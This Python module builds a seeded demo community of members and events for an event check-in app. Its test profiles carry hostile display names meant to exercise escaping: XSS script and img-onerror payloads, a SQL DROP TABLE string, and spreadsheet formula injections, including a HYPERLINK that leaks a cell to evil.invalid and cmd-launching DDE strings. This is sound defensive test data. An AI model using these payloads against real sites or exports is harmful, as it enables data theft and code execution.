"""`demo`: a fixed sample community in the package, so a new install works with no account and no network.

Generated deterministically (one seeded Random) the same way on every start: about 2,500 members, most
with a name of their own and a few percent sharing one (namesakes are real), with names from many scripts
(CJK, Hangul, Arabic and Hebrew, Cyrillic, Devanagari, accents, emoji, combining marks), a few
hostile-looking display names to exercise escaping (HTML, SQL, spreadsheet formulas), ids beyond 2**53 and
up to the 64-bit maximum, and four events of 5, 40, 250 and 2,000 RSVPs in the coming weeks (dated from the
day the process starts, so a new install on any day has nights to come), where every 11th RSVP is on the
waiting list and every 7th brings one or two guests. It never touches the network.
"""

import random
from datetime import datetime, time, timedelta
from functools import cached_property

from doorapp.db import utcnow
from doorapp.platforms import Event, Platform, Profile, Rsvp, event_not_found, user_not_found
from doorapp.platforms.demo_names import CULTURES

WEB_URL = "https://demo.door.invalid"  # .invalid never resolves (RFC 2606)
COMMUNITY = "night-owls"
SEED = 20261205
MEMBERS = 2500

NAMESAKES = 0.025  # the share of members who have the display name of another member
EMOJI = ["🦉", "🌻", "🎸", "👩🏽‍💻", "🏳️‍🌈", "🐈‍⬛"]

# Members every demo event shows first: names that break careless rendering, and 64-bit ids.
SPECIAL = [
    Profile(1001, "img_tag", "<img src=x onerror=alert(1)>"),
    Profile(1002, "script_tag", "\"><script>alert('door')</script>"),
    Profile(9007199254740995, "big_id", "Beyond 2^53 (a JavaScript number cannot hold this id)"),
    Profile(9223372036854775807, "max_id", "Max Int64 🦉"),
    Profile(1003, "zalgo", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇"),
    Profile(1004, "mixed_rtl", "مريم Maryam (RTL + LTR)"),
    Profile(1005, "no_display_name", ""),
    Profile(1006, "zoë_m", "Zoë Mîlle-Feuille"),
    Profile(1007, "bobby_tables", "Robert'); DROP TABLE guests;--"),
    Profile(1008, "long_name", "Hubert Blaine Wolfeschlegelsteinhausenbergerdorff Senior, of Bergedorf"),
    # names a spreadsheet would run as formulas when a CSV export opens (each first character of the rule)
    Profile(1009, "formula_equals", '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click me")'),
    Profile(1010, "formula_plus", "+SUM(1+1)*cmd|' /C calc'!A0"),
    Profile(1011, "formula_minus", "-2+3+cmd|' /C calc'!A0"),
    Profile(1012, "formula_at", "@SUM(1+1)"),
    Profile(1013, "formula_tab", "\t=1+2"),
    Profile(1014, "formula_cr", "\r=1+2"),
]

# (thread, title, days from today, time of day in UTC, number of RSVPs)
EVENTS = [
    ("board-games", "Board games night", 5, time(18, 30), 5),
    ("book-circle", "Book circle: Borges and 村上春樹", 12, time(19, 0), 40),
    ("summer-social", "Summer social 🌞", 7, time(20, 0), 250),
    ("tech-conference", "Night Owls Tech Conference", 49, time(9, 0), 2000),
]


def _names(rng):
    """Distinct (display name, username) pairs, the cultures taken in turn (one whose names are used up
    leaves the turn to the others), until every combination is used."""
    pools = []
    for given, family, family_first, sep in CULTURES:
        pool = [(g, f) for g in given for f in family]
        rng.shuffle(pool)
        pools.append((pool, family_first, sep))
    while any(pool for pool, _, _ in pools):
        pool, family_first, sep = rng.choice([p for p in pools if p[0]])
        (first, first_ascii), (last, last_ascii) = pool.pop()
        display = f"{last}{sep}{first}" if family_first else f"{first}{sep}{last}"
        yield display, f"{first_ascii}_{last_ascii}"


class DemoPlatform(Platform):
    name = "demo"
    web_url = WEB_URL

    def example_urls(self):
        return [f"{WEB_URL}/{COMMUNITY}/{thread}" for thread, *_ in EVENTS]

    @cached_property
    def _community(self):
        """(profiles by id, profiles by username, events by thread), built once per process."""
        rng = random.Random(SEED)
        members, taken, named = list(SPECIAL), {p.username for p in SPECIAL}, []
        fresh = _names(rng)
        while len(members) < MEMBERS:
            # most names are new; a few are another member's (namesakes are real, and the door must cope)
            new = None if named and rng.random() < NAMESAKES else next(fresh, None)
            display, stem = new or rng.choice(named)
            named.append((display, stem))
            if rng.random() < 0.04:
                display = f"{display} {rng.choice(EMOJI)}"
            username = stem
            while username in taken:
                username = f"{stem}{rng.randrange(10, 10000)}"
            taken.add(username)
            members.append(Profile(100000 + len(members) * 37, username, display))
        events, ordinary, today = {}, members[len(SPECIAL) :], utcnow().date()
        for thread, title, days, at, size in EVENTS:
            date = datetime.combine(today + timedelta(days=days), at)
            chosen = SPECIAL[: min(size, len(SPECIAL))] + rng.sample(ordinary, max(0, size - len(SPECIAL)))
            before = [timedelta(minutes=rng.randrange(60, 60 * 24 * 40)) for _ in chosen]  # up to 40 days
            rsvps = sorted(
                (
                    Rsvp(
                        p.platform_user_id,
                        date - ago,
                        waitlisted=n % 11 == 10,
                        guests=1 + n % 2 if n % 7 == 6 else 0,
                    )
                    for n, (p, ago) in enumerate(zip(chosen, before, strict=False))
                ),
                key=lambda r: r.joined_at,
            )
            events[thread] = Event(title, date, tuple(rsvps))
        return ({p.platform_user_id: p for p in members}, {p.username: p for p in members}, events)

    def profile(self, username):
        found = self._community[1].get(username)
        if found is None:
            raise user_not_found(username)
        return found

    def profiles(self, ids):
        by_id = self._community[0]
        return {i: by_id[i] for i in ids if i in by_id}

    def event(self, url):
        normalised, community, thread = self.stored_event_ref(url)
        found = self._community[2].get(thread) if community == COMMUNITY else None
        if found is None:
            raise event_not_found(normalised)
        return found

    def health(self):
        return {
            "status": "healthy",
            "latency_ms": 0.0,
            "message": f"built-in demo community ({MEMBERS} members, no network)",
        }
